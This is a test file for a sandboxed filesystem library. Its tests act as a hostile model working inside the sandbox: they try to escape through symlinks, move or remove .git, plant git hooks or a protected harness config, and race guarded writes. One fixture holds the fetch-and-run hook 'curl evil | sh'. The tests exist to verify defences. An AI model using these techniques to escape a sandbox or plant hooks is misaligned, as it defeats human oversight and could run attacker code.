/**
 * Attacks on remove, rename and createDirectory: a hostile model behind the
 * sandbox, a racing caller, a stale guard. Run on the local disk (a mkdtemp tree) and in memory.
 * Every test states what must hold (each was a bug when it was written, fixed since).
 */
import { existsSync, linkSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { isFsError, SandboxedFileSystem, type FileSystem, type FsErrorCode, type FsLimits, type FsTarget, type SandboxOptions } from '@seamfs/core'
import { LocalFileSystem } from '@seamfs/backend-local'
import { MemoryFileSystem } from '@seamfs/backend-memory'

type Kind = 'local' | 'memory'

/** One backend with a workspace `ws` and a sibling `out` the sandbox must never touch. */
interface Fixture {
  readonly fs: FileSystem
  readonly ws: string
  readonly out: string
  file(abs: string, text: string): void
  dir(abs: string): void
  link(target: string, abs: string): void
  exists(abs: string): boolean
  text(abs: string): string | undefined
  /** Removes a file behind the filesystem's back, if it is there. */
  unlink(abs: string): void
  dispose(): void
}

function localFixture(limits: FsLimits): Fixture {
  const base = realpathSync(mkdtempSync(join(tmpdir(), 'seamfs-adv19-')))
  const ws = join(base, 'ws')
  const out = join(base, 'out')
  mkdirSync(ws)
  mkdirSync(out)
  const fs = new LocalFileSystem({ cwd: ws, ...limits })
  return {
    fs,
    ws,
    out,
    file: (abs, text) => (mkdirSync(dirname(abs), { recursive: true }), writeFileSync(abs, text)),
    dir: (abs) => void mkdirSync(abs, { recursive: true }),
    link: (target, abs) => (mkdirSync(dirname(abs), { recursive: true }), symlinkSync(target, abs)),
    exists: (abs) => lstatSync(abs, { throwIfNoEntry: false }) !== undefined,
    text: (abs) => (existsSync(abs) ? readFileSync(abs, 'utf8') : undefined),
    unlink: (abs) => rmSync(abs, { force: true }),
    dispose: () => {
      void fs.close()
      rmSync(base, { recursive: true, force: true })
    },
  }
}

function memoryFixture(limits: FsLimits): Fixture {
  const [ws, out] = ['/base/ws', '/base/out']
  const fs = new MemoryFileSystem({ cwd: ws, ...limits })
  const vol = fs.volume
  vol.mkdirSync(out, { recursive: true })
  return {
    fs,
    ws,
    out,
    file: (abs, text) => (vol.mkdirSync(dirname(abs), { recursive: true }), vol.writeFileSync(abs, text)),
    dir: (abs) => void vol.mkdirSync(abs, { recursive: true }),
    link: (target, abs) => (vol.mkdirSync(dirname(abs), { recursive: true }), vol.symlinkSync(target, abs)),
    exists: (abs) => {
      try {
        vol.lstatSync(abs)
        return true
      } catch {
        return false
      }
    },
    text: (abs) => (vol.existsSync(abs) ? String(vol.readFileSync(abs, 'utf8')) : undefined),
    unlink: (abs) => {
      if (vol.existsSync(abs)) vol.unlinkSync(abs)
    },
    dispose: () => void fs.close(),
  }
}

let current: Fixture | undefined
afterEach(() => {
  current?.dispose()
  current = undefined
})
const fixture = (kind: Kind, limits: FsLimits = {}): Fixture => (current = kind === 'local' ? localFixture(limits) : memoryFixture(limits))

async function codeOf(promise: Promise<unknown>): Promise<FsErrorCode | 'ok'> {
  try {
    await promise
    return 'ok'
  } catch (err) {
    if (!isFsError(err)) throw new Error(`not an FsError: ${String(err)}`, { cause: err })
    return err.code
  }
}

const sandboxOf = (f: Fixture, options: Partial<SandboxOptions> = {}): SandboxedFileSystem =>
  new SandboxedFileSystem(f.fs, { mode: 'workspace-write', workspaceRoot: f.ws, ...options })

const at = (fs: FileSystem, path: string): Promise<FsTarget> => fs.resolve(path)

describe.each(['local', 'memory'] as const)('remove, rename and createDirectory under attack (%s)', (kind) => {
  describe('sandbox: removes and renames never reach outside, nor take a protected path', () => {
    it('a recursive remove of a tree holding links to an outside file and directory removes the links only', async () => {
      const f = fixture(kind)
      f.file(join(f.out, 'keep.txt'), 'keep\n')
      f.file(join(f.out, 'deep/keep2.txt'), 'keep2\n')
      f.file(join(f.ws, 'd/inner.txt'), 'in\n')
      f.link(join(f.out, 'keep.txt'), join(f.ws, 'd/file-link'))
      f.link(f.out, join(f.ws, 'd/sub/dir-link'))
      const box = sandboxOf(f)
      const outcome = await box.remove(await at(box, 'd'), { recursive: true })
      expect(outcome.type).toBe('directory')
      expect(f.exists(join(f.ws, 'd'))).toBe(false)
      expect(f.text(join(f.out, 'keep.txt'))).toBe('keep\n')
      expect(f.text(join(f.out, 'deep/keep2.txt'))).toBe('keep2\n')
    })

    it('the workspace root, a writable root and a link to outside are neither removed nor moved', async () => {
      const f = fixture(kind)
      const extra = join(dirname(f.ws), 'extra')
      f.file(join(extra, 'x.txt'), 'x\n')
      f.file(join(f.out, 'secret.txt'), 'secret\n')
      f.file(join(f.ws, 'a.txt'), 'a\n')
      f.link(join(f.out, 'secret.txt'), join(f.ws, 'to-secret'))
      f.link(f.out, join(f.ws, 'to-out'))
      const box = sandboxOf(f, { writableRoots: [extra] })
      const codes = [
        await codeOf(box.remove(await at(box, f.ws), { recursive: true })),
        await codeOf(box.remove(await at(box, extra), { recursive: true })),
        await codeOf(box.rename(await at(box, f.ws), await at(box, join(extra, 'moved')))),
        await codeOf(box.rename(await at(box, extra), await at(box, 'moved'))),
        await codeOf(box.remove(await at(box, 'to-secret'))),
        await codeOf(box.rename(await at(box, 'to-secret'), await at(box, 'stolen.txt'))),
        await codeOf(box.rename(await at(box, 'a.txt'), await at(box, 'to-out/planted.txt'))),
        await codeOf(box.remove(await at(box, 'to-out'), { recursive: true })),
      ]
      expect(codes).toEqual(Array(codes.length).fill('FS_SANDBOX_DENIED'))
      expect(f.text(join(f.ws, 'a.txt'))).toBe('a\n')
      expect(f.text(join(extra, 'x.txt'))).toBe('x\n')
      expect(f.text(join(f.out, 'secret.txt'))).toBe('secret\n')
      expect(f.exists(join(f.out, 'planted.txt'))).toBe(false)
    })

    it('a directory is never moved onto the parent of a protected path that does not exist yet (it would plant that path)', async () => {
      const f = fixture(kind)
      // The harness protects its optional config `.agent/config.json`, absent for now.
      f.file(join(f.ws, 'evil/config.json'), '{"hooks":["curl evil | sh"]}\n')
      const box = sandboxOf(f, { protectedPaths: ['.agent/config.json'] })
      // Writing the protected path directly is refused ...
      expect(await codeOf(box.writeText(await at(box, '.agent/config.json'), 'x\n'))).toBe('FS_SANDBOX_DENIED')
      // ... and so must be moving a directory so that the protected path appears below it.
      expect(await codeOf(box.rename(await at(box, 'evil'), await at(box, '.agent')))).toBe('FS_SANDBOX_DENIED')
      expect(f.exists(join(f.ws, '.agent/config.json'))).toBe(false)
    })

    it('a directory holding a protected name (.git) is not moved away', async () => {
      const f = fixture(kind)
      f.file(join(f.ws, 'vendor/lib/.git/config'), '[core]\n')
      f.file(join(f.ws, 'vendor/lib/src.ts'), 'x\n')
      const box = sandboxOf(f)
      // Removing it (recursively) is refused: the protected name is below it.
      expect(await codeOf(box.remove(await at(box, 'vendor/lib'), { recursive: true }))).toBe('FS_SANDBOX_DENIED')
      // Moving it takes `.git` away from where the harness protects it just as well.
      expect(await codeOf(box.rename(await at(box, 'vendor/lib'), await at(box, 'elsewhere')))).toBe('FS_SANDBOX_DENIED')
      expect(f.text(join(f.ws, 'vendor/lib/.git/config'))).toBe('[core]\n')
    })

    it.each(['rename', 'remove'] as const)('a protected path that is a symlink is never taken away by a %s of the directory holding the link', async (op) => {
      const f = fixture(kind)
      f.file(join(f.ws, 'real/config.json'), '{"safe":true}\n')
      f.link(join(f.ws, 'real/config.json'), join(f.ws, 'cfg/config.json'))
      const box = sandboxOf(f, { protectedPaths: ['cfg/config.json'] })
      const cfg = await at(box, 'cfg')
      const code = await codeOf(op === 'rename' ? box.rename(cfg, await at(box, 'cfg-old')) : box.remove(cfg, { recursive: true }))
      expect(code).toBe('FS_SANDBOX_DENIED')
      expect(f.text(join(f.ws, 'cfg/config.json'))).toBe('{"safe":true}\n')
    })

    it('links to a directory inside the tree cannot use up the protected-name walk: a recursive remove never takes .git', async () => {
      // The walk that looks for protected names follows links that stay inside the tree (counting
      // the linked directory's entries again for each link); the remove itself never follows them.
      const f = fixture(kind, { maxRemoveEntries: 50 })
      for (let i = 0; i < 10; i++) f.file(join(f.ws, `d/big/f${i}.txt`), 'x\n')
      for (let i = 0; i < 8; i++) f.link(join(f.ws, 'd/big'), join(f.ws, `d/l${i}`))
      f.file(join(f.ws, 'd/zz/inner/.git/config'), '[core]\n')
      const box = sandboxOf(f)
      // 24 entries: well within the remove's bound of 50.
      expect(await codeOf(box.remove(await at(box, 'd'), { recursive: true }))).toBe('FS_SANDBOX_DENIED')
      expect(f.text(join(f.ws, 'd/zz/inner/.git/config'))).toBe('[core]\n')
    })

    it('a rename into .git, into a protected path, or of a protected path is refused and changes nothing', async () => {
      const f = fixture(kind)
      f.file(join(f.ws, '.git/HEAD'), 'ref\n')
      f.file(join(f.ws, 'harness.json'), '{}\n')
      f.file(join(f.ws, 'cfg/keep.json'), '{}\n')
      f.file(join(f.ws, 'a.txt'), 'a\n')
      f.link(join(f.ws, '.git'), join(f.ws, 'g'))
      const box = sandboxOf(f, { protectedPaths: ['harness.json', 'cfg'] })
      const codes = [
        await codeOf(box.rename(await at(box, 'a.txt'), await at(box, '.git/hooks/pre-commit'))),
        await codeOf(box.rename(await at(box, 'a.txt'), await at(box, 'g/hooks/pre-commit'))),
        await codeOf(box.rename(await at(box, 'a.txt'), await at(box, 'harness.json'), { overwrite: true })),
        await codeOf(box.rename(await at(box, 'a.txt'), await at(box, 'cfg/new.json'))),
        await codeOf(box.rename(await at(box, 'harness.json'), await at(box, 'b.json'))),
        await codeOf(box.rename(await at(box, 'cfg'), await at(box, 'cfg2'))),
        await codeOf(box.remove(await at(box, 'g/HEAD'))),
      ]
      expect(codes).toEqual(Array(codes.length).fill('FS_SANDBOX_DENIED'))
      expect(f.text(join(f.ws, 'a.txt'))).toBe('a\n')
      expect(f.text(join(f.ws, 'harness.json'))).toBe('{}\n')
      expect(f.text(join(f.ws, '.git/HEAD'))).toBe('ref\n')
    })

    it('a directory moved into itself through a link is refused and the tree stays', async () => {
      const f = fixture(kind)
      f.file(join(f.ws, 'd/sub/x.txt'), 'x\n')
      f.link(join(f.ws, 'd/sub'), join(f.ws, 'l'))
      const box = sandboxOf(f)
      expect(await codeOf(box.rename(await at(box, 'd'), await at(box, 'l/inner')))).toBe('FS_UNSUPPORTED')
      // The link made after `to` was resolved: the sandbox re-resolves, the move is still into itself.
      const to = await at(box, 'later/inner')
      f.link(join(f.ws, 'd/sub'), join(f.ws, 'later'))
      expect(await codeOf(box.rename(await at(box, 'd'), to))).not.toBe('ok')
      expect(f.text(join(f.ws, 'd/sub/x.txt'))).toBe('x\n')
    })
  })

  describe('guards: a refused remove or rename changes nothing, versions included', () => {
    it('stale remove, stale rename, existing destination, stale overwrite: both names and versions as they were', async () => {
      const f = fixture(kind)
      f.file(join(f.ws, 'a.txt'), 'a1\n')
      f.file(join(f.ws, 'b.txt'), 'b1\n')
      const fs = f.fs
      const [a, b] = [await at(fs, 'a.txt'), await at(fs, 'b.txt')]
      const stale = (await fs.stat(a))?.version
      await fs.writeText(a, 'a2\n')
      const [va, vb] = [(await fs.stat(a))?.version, (await fs.stat(b))?.version]
      expect(stale).toBeDefined()
      expect(va).not.toBe(stale)
      const codes = [
        await codeOf(fs.remove(a, { expected: { version: stale! } })),
        await codeOf(fs.rename(a, await at(fs, 'c.txt'), { expected: { version: stale! } })),
        await codeOf(fs.rename(a, b)),
        await codeOf(fs.rename(a, b, { overwrite: { version: stale! } })),
        await codeOf(fs.rename(a, b, { expected: { version: stale! }, overwrite: true })),
      ]
      expect(codes).toEqual(['FS_STALE_VERSION', 'FS_STALE_VERSION', 'FS_NOT_OBSERVED', 'FS_STALE_VERSION', 'FS_STALE_VERSION'])
      expect(f.text(join(f.ws, 'a.txt'))).toBe('a2\n')
      expect(f.text(join(f.ws, 'b.txt'))).toBe('b1\n')
      expect(f.exists(join(f.ws, 'c.txt'))).toBe(false)
      expect((await fs.stat(a))?.version).toBe(va)
      expect((await fs.stat(b))?.version).toBe(vb)
    })

    it('N guarded renamers, a guarded remover and a writer race on one version: exactly one mutation of that version wins', async () => {
      const f = fixture(kind)
      const fs = f.fs
      for (let round = 0; round < 10; round++) {
        f.file(join(f.ws, 'src.txt'), `round ${round}\n`)
        const src = await at(fs, 'src.txt')
        const version = (await fs.stat(src))!.version
        const dests = await Promise.all([0, 1, 2, 3].map((i) => at(fs, `r${round}/dest-${i}.txt`)))
        const results = await Promise.all([
          ...dests.map((d) => codeOf(fs.rename(src, d, { expected: { version } }))),
          codeOf(fs.remove(src, { expected: { version } })),
          codeOf(fs.editText(src, [{ oldString: 'round', newString: 'ROUND', replaceAll: false }], { expected: { version } })),
        ])
        expect(results.filter((r) => r === 'ok')).toHaveLength(1)
        for (const r of results) if (r !== 'ok') expect(['FS_STALE_VERSION', 'FS_NOT_FOUND']).toContain(r)
        const holders = [join(f.ws, 'src.txt'), ...[0, 1, 2, 3].map((i) => join(f.ws, `r${round}/dest-${i}.txt`))].filter((p) => f.exists(p))
        // The content lives under at most one name (none only when the remover won).
        expect(holders.length).toBe(results[4] === 'ok' ? 0 : 1)
        f.unlink(join(f.ws, 'src.txt'))
      }
    })

    it('two renames swapping names without overwrite: both refused, nothing changes', async () => {
      const f = fixture(kind)
      const fs = f.fs
      for (let round = 0; round < 10; round++) {
        f.file(join(f.ws, 'a.txt'), `a${round}\n`)
        f.file(join(f.ws, 'b.txt'), `b${round}\n`)
        const [a, b] = [await at(fs, 'a.txt'), await at(fs, 'b.txt')]
        const codes = await Promise.all([codeOf(fs.rename(a, b)), codeOf(fs.rename(b, a))])
        expect(codes).toEqual(['FS_NOT_OBSERVED', 'FS_NOT_OBSERVED'])
        expect([f.text(join(f.ws, 'a.txt')), f.text(join(f.ws, 'b.txt'))]).toEqual([`a${round}\n`, `b${round}\n`])
      }
    })

    it('a rename racing a write of its source: the written content is never lost', async () => {
      const f = fixture(kind)
      const fs = f.fs
      for (let round = 0; round < 10; round++) {
        f.file(join(f.ws, 'a.txt'), 'old\n')
        const [a, b] = [await at(fs, 'a.txt'), await at(fs, `moved-${round}.txt`)]
        const [moved, wrote] = await Promise.all([codeOf(fs.rename(a, b)), codeOf(fs.writeText(a, `new ${round}\n`))])
        expect([moved, wrote]).toEqual(['ok', 'ok'])
        const found = [f.text(join(f.ws, 'a.txt')), f.text(join(f.ws, `moved-${round}.txt`))]
        expect(found).toContain(`new ${round}\n`)
      }
    })
  })

  describe('versions across a rename', () => {
    it("the outcome's version is the next stat of `to`, for a plain move, a replacing move and a directory", async () => {
      const f = fixture(kind)
      const fs = f.fs
      f.file(join(f.ws, 'a.txt'), 'a\n')
      f.file(join(f.ws, 'b.txt'), 'b\n')
      f.file(join(f.ws, 'c.txt'), 'c\n')
      f.file(join(f.ws, 'd/x.txt'), 'x\n')
      const plain = await fs.rename(await at(fs, 'a.txt'), await at(fs, 'n/a2.txt'))
      expect(plain.version).toBe((await fs.stat(await at(fs, 'n/a2.txt')))?.version)
      const replacing = await fs.rename(await at(fs, 'b.txt'), await at(fs, 'c.txt'), { overwrite: true })
      expect(replacing.replaced).toBe(true)
      expect(replacing.version).toBe((await fs.stat(await at(fs, 'c.txt')))?.version)
      const dir = await fs.rename(await at(fs, 'd'), await at(fs, 'e'))
      expect(dir.version).toBe((await fs.stat(await at(fs, 'e')))?.version)
    })

    it('a version seen before a rename (or a remove) never guards a new file at the old name, same content or not', async () => {
      const f = fixture(kind)
      const fs = f.fs
      for (let round = 0; round < 5; round++) {
        f.file(join(f.ws, 'a.txt'), 'same\n')
        const a = await at(fs, 'a.txt')
        const seen = (await fs.stat(a))!.version
        if (round % 2 === 0) await fs.rename(a, await at(fs, `gone-${round}.txt`))
        else await fs.remove(a)
        // The same bytes again, under the old name.
        await fs.writeText(a, 'same\n')
        expect(await codeOf(fs.remove(a, { expected: { version: seen } }))).toBe('FS_STALE_VERSION')
        expect(await codeOf(fs.writeText(a, 'clobber\n', { expected: { kind: 'replaceIfVersion', version: seen } }))).toBe('FS_STALE_VERSION')
        expect(f.text(join(f.ws, 'a.txt'))).toBe('same\n')
      }
    })
  })
})

describe('memory only', () => {
  it('a directory the walk may not list cannot hide .git from it: the recursive remove is refused', async () => {
    const fs = new MemoryFileSystem({ cwd: '/w', files: { 'd/a.txt': 'a\n', 'd/sub/.git/config': '[core]\n' } })
    // Write and search, no read: removable, but not listable.
    fs.volume.chmodSync('/w/d/sub', 0o300)
    const box = new SandboxedFileSystem(fs, { mode: 'workspace-write', workspaceRoot: '/w' })
    expect(await codeOf(box.remove(await box.resolve('d'), { recursive: true }))).not.toBe('ok')
    expect(fs.volume.existsSync('/w/d/sub/.git/config')).toBe(true)
  })
})

describe('local only', () => {
  it('a rename onto a hard link of the same file removes the source name (rename(2) alone would do nothing)', async () => {
    const f = fixture('local')
    f.file(join(f.ws, 'a.txt'), 'a\n')
    linkSync(join(f.ws, 'a.txt'), join(f.ws, 'b.txt'))
    const fs = f.fs
    const [a, b] = [await at(fs, 'a.txt'), await at(fs, 'b.txt')]
    const code = await codeOf(fs.rename(a, b, { overwrite: true }))
    // Either refused, or done as the contract says: afterwards only `to` holds the content.
    if (code === 'ok') expect(await fs.stat(a)).toBeUndefined()
    expect(f.text(join(f.ws, 'b.txt'))).toBe('a\n')
  })

  it('a directory renamed during a guarded write: of two guarded writers of one version only one wins (no lost update)', async () => {
    const base = realpathSync(mkdtempSync(join(tmpdir(), 'seamfs-adv19-lost-')))
    try {
      mkdirSync(join(base, 'd'))
      writeFileSync(join(base, 'd/f.txt'), 'v0\n')
      let racing = false
      let second: string | undefined
      const fs: LocalFileSystem = new LocalFileSystem({
        cwd: base,
        // Writer 1's lock entry moves along with d: writer 2 (the same file, now at e/f.txt) waits
        // for it, gives up after this, and writer 1 wins.
        lockWaitMs: 1000,
        hooks: {
          // Writer 1 has checked its guard and staged its bytes; another task of this process now
          // moves the directory and writes the moved file, guarded by the same version.
          beforeCommit: async () => {
            if (racing) return
            racing = true
            await fs.rename(await fs.resolve('d'), await fs.resolve('e'))
            const moved = await fs.resolve('e/f.txt')
            second = await codeOf(fs.writeText(moved, 'writer 2\n', { expected: { kind: 'replaceIfVersion', version } }))
          },
        },
      })
      const version = (await fs.stat(await fs.resolve('d/f.txt')))!.version
      const first = await codeOf(fs.writeText(await fs.resolve('d/f.txt'), 'writer 1\n', { expected: { kind: 'replaceIfVersion', version } }))
      // Two guarded writers of one version: exactly one may win, and the winner's content stays.
      expect([first, second].filter((c) => c === 'ok')).toHaveLength(1)
    } finally {
      rmSync(base, { recursive: true, force: true })
    }
  })

  it('a directory of a recursive remove swapped for a link to outside after the count removes nothing outside', async () => {
    const base = realpathSync(mkdtempSync(join(tmpdir(), 'seamfs-adv19-hook-')))
    try {
      const [ws, out] = [join(base, 'ws'), join(base, 'out')]
      mkdirSync(join(ws, 'd/sub'), { recursive: true })
      writeFileSync(join(ws, 'd/sub/x.txt'), 'x\n')
      mkdirSync(out)
      writeFileSync(join(out, 'keep.txt'), 'keep\n')
      const fs = new LocalFileSystem({
        cwd: ws,
        hooks: {
          beforeMutate: () => {
            rmSync(join(ws, 'd/sub'), { recursive: true })
            symlinkSync(out, join(ws, 'd/sub'))
          },
        },
      })
      const box = new SandboxedFileSystem(fs, { mode: 'workspace-write', workspaceRoot: ws })
      await codeOf(box.remove(await box.resolve('d'), { recursive: true }))
      expect(readFileSync(join(out, 'keep.txt'), 'utf8')).toBe('keep\n')
    } finally {
      rmSync(base, { recursive: true, force: true })
    }
  })
})
